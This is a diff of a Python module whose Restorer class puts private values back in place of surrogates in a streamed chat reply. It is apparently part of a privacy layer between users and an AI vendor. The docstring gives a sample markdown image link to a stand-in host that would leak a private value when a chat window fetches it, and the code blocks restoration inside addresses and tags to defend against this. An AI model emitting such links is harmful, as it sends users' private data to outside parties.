@@ -3,8 +3,11 @@
 The way back of a private map: a surrogate that stands alone, whatever its case, becomes the value it was drawn for.
 What might still become a surrogate is held back until the next piece; nothing else waits.
 
-Inside an address nothing is restored: a reply that says `![](https://elsewhere.example/?ID-00017)` would otherwise make
-a chat window send the private value to whoever wrote the reply, by fetching the picture.
+The vendor writes the reply, and a chat window fetches pictures: `![](https://elsewhere.example/?ID-00017)` would send
+a private value to whoever wrote it. What an address is, differs from window to window; so a surrogate is restored only
+where no window can take it for a part of one: between white space (of ASCII, the only one that ends an address), but
+for quotes, brackets and emphasis before it and punctuation after it; not on a line after "<", within which an address
+may hold spaces; and nowhere after what may be a tag, whose attributes may hold anything.
 """
 
 from __future__ import annotations
@@ -12,6 +15,10 @@ from __future__ import annotations
 from collections.abc import Mapping
 
 __all__ = ["Restorer"]
+
+_SPACE = frozenset(" \t\n\r\f\v")
+_OPENING = frozenset("\"'“‘«„(*_`~")
+_CLOSING = frozenset(".,;:!?)\"'”’»*_`~…")
 
 
 class Restorer:
@@ -29,8 +36,9 @@ class Restorer:
     def __init__(self, originals: Mapping[str, str]) -> None:
         self._originals = dict(originals)
         self._beginnings = {surrogate[:n] for surrogate in originals for n in range(1, len(surrogate) + 1)}
-        self._held, self._before = "", " "
-        self._address = self._angle = False  # whether what comes continues an address, or stands after an open "<"
+        self._held, self._before = "", ""
+        self._plain = True  # since white space, nothing has come but what may stand before a surrogate
+        self._angle = self._tag = False
 
     def feed(self, piece: str) -> str:
         """Return what can be said for sure once this piece is there."""
@@ -41,40 +49,51 @@ class Restorer:
         return self._advance(self._held, last=True)
 
     def _advance(self, text: str, *, last: bool) -> str:
-        said, done, place = list[str](), 0, 0
+        said, place = list[str](), 0
         while place < len(text):
-            end = place
-            if not (self._address or _in_word(self._before)):
-                while end < len(text) and text[place : end + 1].lower() in self._beginnings:
-                    end += 1
-                if end == len(text) and not last:
-                    break
-            found = next((e for e in range(end, place, -1) if self._stands(text, place, e)), None)
-            if found is not None:
-                said += [text[done:place], self._originals[text[place:found].lower()]]
-                done = found
-            for character in text[place : found or place + 1]:
-                self._pass(character)
-            place = found or place + 1
+            end = self._end(text, place, last=last)
+            if end is None:
+                break
+            if end > place:
+                said.append(self._originals[text[place:end].lower()])
+                self._plain, place = False, end
+            else:
+                said.append(text[place])
+                self._pass(text[place])
+                place += 1
         self._held = text[place:]
-        return "".join([*said, text[done:place]])
+        return "".join(said)
 
-    def _stands(self, text: str, start: int, end: int) -> bool:
-        """Whether a surrogate stands here that no further character of a word follows."""
-        return text[start:end].lower() in self._originals and not (end < len(text) and _in_word(text[end]))
+    def _end(self, text: str, start: int, *, last: bool) -> int | None:
+        """Return where the longest surrogate ends that stands here, its start if none does, None if that is open."""
+        if self._tag or self._angle or not self._plain:
+            return start
+        end = start
+        while end < len(text) and text[start : end + 1].lower() in self._beginnings:
+            end += 1
+        if end == len(text) and not last:
+            return None
+        for longest in range(end, start, -1):
+            if text[start:longest].lower() in self._originals:
+                stands = _ends_well(text, longest, last=last)
+                if stands is not False:
+                    return longest if stands else None
+        return start
 
     def _pass(self, character: str) -> None:
-        """Keep track of addresses: from "//" to white space, or to ">" or an empty line after an open "<"."""
-        if character == self._before == "/":
-            self._address = True
-        elif character == ">" or character == self._before == "\n":
-            self._address = self._angle = False
-        elif character == "<":
-            self._angle = True
-        elif character.isspace() and not self._angle:
-            self._address = False
+        """Keep track of what may be an address or a tag."""
+        self._tag = self._tag or (self._before == "<" and (character.isalpha() or character in "/!?"))
+        self._angle = character == "<" or (self._angle and character != "\n")
+        self._plain = character in _SPACE or (self._plain and character in _OPENING)
         self._before = character
 
 
-def _in_word(character: str) -> bool:
-    return character.isalnum() or character == "_"
+def _ends_well(text: str, end: int, *, last: bool) -> bool | None:
+    """Whether only punctuation, or a genitive s, stands between a surrogate's end and white space; None if unknown."""
+    if text[end : end + 2].lower() in ("'s", "’s"):
+        end += 2
+    while end < len(text) and text[end] in _CLOSING:
+        end += 1
+    if end == len(text):
+        return True if last else None
+    return text[end] in _SPACE
